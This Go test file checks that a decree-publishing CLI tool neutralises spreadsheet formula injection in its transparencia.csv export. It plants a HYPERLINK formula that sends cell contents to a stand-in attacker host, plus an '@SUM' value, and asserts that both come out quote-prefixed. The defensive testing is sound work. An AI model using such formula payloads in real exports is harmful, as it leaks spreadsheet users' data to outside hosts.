package cli

import (
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
)

// TestTransparencyCSVFormula: a decree subject written as a spreadsheet formula reaches the
// Transparencia index as text, shown as typed behind a single quote, never as a formula.
func TestTransparencyCSVFormula(t *testing.T) {
	dir := newProject(t)
	formula := `=HYPERLINK("https://malo.example/?robar="&A1,"Ver decreto")`
	edit(t, filepath.Join(dir, "procedure.yaml"), "  subject: APRUEBA PROCEDIMIENTO DE PRUEBA.", "  subject: '"+formula+"'")
	edit(t, filepath.Join(dir, "procedure.yaml"), "  kind: DECRETO ALCALDICIO", "  kind: '@SUM(1+1)'")
	mustRun(t, ExitOK, "publish", "--src", dir, "--decreto", "10", "--fecha", "2025-03-04")
	out := filepath.Join(t.TempDir(), "public")
	mustRun(t, ExitOK, "build", "--src", dir, "--out", out)
	file := readFile(t, filepath.Join(out, "transparencia.csv"))
	rows, err := csv.NewReader(strings.NewReader(file)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("transparencia.csv is not a header and one row (%v):\n%s", err, file)
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %q starts a formula: %q", rows[0][i], cell)
		}
	}
	if got := rows[1][3]; got != "'"+formula {
		t.Errorf("materia = %q, want %q", got, "'"+formula)
	}
	if got := rows[1][0]; got != "'@sum(1+1)" {
		t.Errorf("tipo = %q, want the kind behind a quote", got)
	}
}
